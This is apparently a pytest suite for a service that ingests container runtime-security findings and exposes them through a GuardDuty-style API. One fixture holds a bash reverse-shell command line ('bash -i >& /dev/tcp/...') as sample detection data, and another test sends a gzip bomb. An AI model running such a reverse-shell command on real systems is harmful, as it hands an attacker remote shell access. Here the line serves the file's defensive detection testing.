"""Agent ingest: authenticated, validated whole, idempotent, bounded; the findings read back through boto3."""

from __future__ import annotations

import gzip
import json
import uuid
from collections.abc import Callable
from typing import Any

import pytest
from backend_env import BackendThread, sample_finding
from botocore.exceptions import ClientError

from backend import tenancy

ACCOUNT, REGION = "111111111111", "us-east-1"
DETECTOR = tenancy.detector_id_for(ACCOUNT, REGION)


def _ids(gd: Any, **criteria: Any) -> list[str]:
    kwargs = {"FindingCriteria": {"Criterion": criteria}} if criteria else {}
    return list(gd.list_findings(DetectorId=DETECTOR, **kwargs)["FindingIds"])


def test_batch_is_stored_and_read_back_as_guardduty_returns_it(backend: BackendThread) -> None:
    token = backend.token()
    f = sample_finding(remote_ip="203.0.113.7", command_line="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    status, out = backend.send(token, [f])
    assert status == 200, out
    assert out == {"accepted": 1, "new": 1, "updated": 0, "unchanged": 0}
    gd = backend.guardduty()
    assert gd.list_detectors()["DetectorIds"] == [DETECTOR]
    assert _ids(gd) == [f["id"]]
    (got,) = gd.get_findings(DetectorId=DETECTOR, FindingIds=[f["id"]])["Findings"]
    # botocore parsed our wire JSON into its own shapes: the names line up with GuardDuty's model
    assert got["Type"] == "Execution:Runtime/ReverseShell" and got["Severity"] == 8.0
    task = got["Resource"]["EcsClusterDetails"]["TaskDetails"]
    assert task["Arn"].endswith("task/prod/0123456789abcdef")
    assert task["Containers"][0]["Image"] == "nginx:1.27"
    assert got["Service"]["RuntimeDetails"]["Process"]["ExecutablePath"] == "/bin/bash"
    assert got["Service"]["Action"]["NetworkConnectionAction"]["RemoteIpDetails"]["IpAddressV4"] == "203.0.113.7"
    assert got["Service"]["Archived"] is False and got["Service"]["Count"] == 1


def test_same_batch_twice_stores_once_and_updates_aggregate(backend: BackendThread) -> None:
    token = backend.token()
    f = sample_finding(created=1_760_000_000, count=1)
    batch = str(uuid.uuid4())
    assert backend.send(token, [f], batch_id=batch)[1]["new"] == 1
    assert backend.send(token, [f], batch_id=batch)[1] == {"accepted": 1, "new": 0, "updated": 0, "unchanged": 1}
    # the agent's aggregate grew: same id, higher count, later updatedAt
    grown = sample_finding(fid=f["id"], created=1_760_000_000, updated=1_760_000_100, count=7)
    assert backend.send(token, [grown])[1]["updated"] == 1
    # an older version arriving late changes nothing
    assert backend.send(token, [f])[1]["unchanged"] == 1
    gd = backend.guardduty()
    (got,) = gd.get_findings(DetectorId=DETECTOR, FindingIds=[f["id"]])["Findings"]
    assert got["Service"]["Count"] == 7
    assert got["UpdatedAt"].startswith("2025-10-09T08:55:00") or got["UpdatedAt"] != got["CreatedAt"]
    # the agent restarted: it counts from 1 again under the same id; the store keeps the total
    reborn = sample_finding(fid=f["id"], created=1_760_000_500, updated=1_760_000_600, count=2)
    assert backend.send(token, [reborn])[1]["updated"] == 1
    (got,) = gd.get_findings(DetectorId=DETECTOR, FindingIds=[f["id"]])["Findings"]
    assert got["Service"]["Count"] == 9
    assert got["CreatedAt"] == f["createdAt"]  # the first life's
    assert _ids(gd) == [f["id"]]


def test_gzip_bodies_and_their_limits(sqlite_backend: BackendThread) -> None:
    b = sqlite_backend
    token = b.token()
    f = sample_finding()
    status, out = b.send(token, [f], gzipped=True)
    assert status == 200 and out["new"] == 1
    status, out, _ = b.post(
        "/agent/v1/findings", None, token, raw=b"\x1f\x8b\x08\x00garbage", headers={"Content-Encoding": "gzip"}
    )
    assert status == 400 and "gzip" in out["error"]
    # a small gzip that inflates past the decompressed limit is refused without inflating it all
    bomb = json.dumps({"batchId": "b", "agentId": "a", "findings": [], "pad": "0" * (40 << 20)}).encode()
    status, out, _ = b.post("/agent/v1/findings", None, token, raw=bomb, gzipped=True)
    assert status == 413 and "decompressed" in out["error"]


def test_size_and_count_limits_are_413_with_the_limits(sqlite_backend: BackendThread) -> None:
    b = sqlite_backend
    token = b.token()
    status, out, _ = b.post("/agent/v1/findings", None, token, raw=b"{" + b" " * (5 << 20) + b"}")
    assert status == 413 and out["maxBytes"] == 4 << 20 and out["maxFindings"] == 500
    many = [sample_finding() for _ in range(501)]
    status, out = b.send(token, many, gzipped=True)
    assert status == 413 and out["maxFindings"] == 500


def test_a_bad_finding_rejects_the_whole_batch_naming_the_field(backend: BackendThread) -> None:
    token = backend.token()
    good = sample_finding()
    bad = sample_finding()
    del bad["severity"]
    status, out = backend.send(token, [good, bad])
    assert status == 400 and out["field"] == "findings[1].severity", out
    worse = sample_finding()
    worse["severity"] = 42
    status, out = backend.send(token, [good, worse])
    assert status == 400 and out["field"] == "findings[1].severity" and "10" in out["error"]
    status, out = backend.send(token, [good, {**sample_finding(), "surprise": 1}])
    assert status == 400 and out["field"] == "findings[1].surprise"
    status, out, _ = backend.post("/agent/v1/findings", None, token, raw=b"not json")
    assert status == 400 and "JSON" in out["error"]
    status, out, _ = backend.post("/agent/v1/findings", {"agentId": "a", "findings": []}, token)
    assert status == 400 and out["field"] == "batchId"
    assert _ids(backend.guardduty()) == []  # nothing of a refused batch was stored


def test_tokens_speak_for_one_cluster_of_one_account(backend: BackendThread) -> None:
    prod = backend.token(cluster="prod")
    other_account = backend.token(account="222222222222", cluster="prod")
    status, out = backend.send(prod, [sample_finding(cluster="staging")])
    assert status == 403 and "cluster prod" in out["error"]
    status, out = backend.send(other_account, [sample_finding()])  # claims account 111111111111
    assert status == 403 and "account 222222222222" in out["error"]
    status, out = backend.send(prod, [sample_finding(region="eu-west-1")])
    assert status == 403 and "region" in out["error"]
    status, out = backend.send("rtm_" + "x" * 43, [sample_finding()])
    assert status == 401
    status, out = backend.send(None, [sample_finding()])  # type: ignore[arg-type]
    assert status == 401 and "bearer" in out["error"].lower()
    # a revoked token stops working at once
    tid, secret = backend.in_session(lambda s: tenancy.create_token(s, ACCOUNT, REGION, "prod"))
    assert backend.send(secret, [sample_finding()])[0] == 200
    assert backend.in_session(lambda s: tenancy.revoke_token(s, tid))
    assert backend.send(secret, [sample_finding()])[0] == 401
    assert len(_ids(backend.guardduty())) == 1


def test_one_account_cannot_read_another_accounts_findings(backend: BackendThread) -> None:
    token = backend.token()
    f = sample_finding()
    assert backend.send(token, [f])[0] == 200
    other = backend.guardduty(account="222222222222")
    other_detector = other.list_detectors()["DetectorIds"]
    assert other_detector == [tenancy.detector_id_for("222222222222", REGION)]
    calls: list[Callable[[], Any]] = [
        lambda: other.get_detector(DetectorId=DETECTOR),
        lambda: other.list_findings(DetectorId=DETECTOR),
        lambda: other.get_findings(DetectorId=DETECTOR, FindingIds=[f["id"]]),
        lambda: other.archive_findings(DetectorId=DETECTOR, FindingIds=[f["id"]]),
    ]
    for call in calls:
        with pytest.raises(ClientError) as exc:
            call()
        assert exc.value.response["Error"]["Code"] == "BadRequestException"
        assert "not owned" in exc.value.response["Error"]["Message"]
    assert other.list_findings(DetectorId=other_detector[0])["FindingIds"] == []
    # and the same account in another region is another detector
    west = backend.guardduty(region="eu-west-1")
    with pytest.raises(ClientError):
        west.list_findings(DetectorId=DETECTOR)


def test_suppression_rule_archives_matching_new_findings_on_arrival(backend: BackendThread) -> None:
    token = backend.token()
    gd = backend.guardduty()
    before = sample_finding(type="Discovery:Runtime/SuspiciousCommand", severity=2.0)
    assert backend.send(token, [before])[0] == 200
    gd.create_filter(
        DetectorId=DETECTOR,
        Name="quiet-discovery",
        Action="ARCHIVE",
        FindingCriteria={
            "Criterion": {
                "type": {"Eq": ["Discovery:Runtime/SuspiciousCommand"]},
                "resource.ecsClusterDetails.name": {"Eq": ["prod"]},
            }
        },
    )
    noise = sample_finding(type="Discovery:Runtime/SuspiciousCommand", severity=2.0)
    real = sample_finding(type="Execution:Runtime/ReverseShell")
    assert backend.send(token, [noise, real])[0] == 200
    archived = set(_ids(gd, **{"service.archived": {"Eq": ["true"]}}))
    assert archived == {noise["id"]}
    assert set(_ids(gd, **{"service.archived": {"Eq": ["false"]}})) == {before["id"], real["id"]}
    # an update of a suppressed finding stays suppressed
    again = sample_finding(
        fid=noise["id"], type="Discovery:Runtime/SuspiciousCommand", severity=2.0, count=3, updated=1_760_000_900
    )
    assert backend.send(token, [again])[1]["updated"] == 1
    assert set(_ids(gd, **{"service.archived": {"Eq": ["true"]}})) == {noise["id"]}


def test_health(sqlite_backend: BackendThread) -> None:
    status, out, _ = sqlite_backend.post("/healthz", None, None, method="GET")
    assert status == 200 and out["status"] == "ok"


def test_gzip_body_identical_to_plain(sqlite_backend: BackendThread) -> None:
    token = sqlite_backend.token()
    f = sample_finding()
    body = {"batchId": "b1", "agentId": "a", "findings": [f]}
    raw = gzip.compress(json.dumps(body).encode())
    status, out, _ = sqlite_backend.post(
        "/agent/v1/findings", None, token, raw=raw, headers={"Content-Encoding": "gzip"}
    )
    assert status == 200 and out["new"] == 1
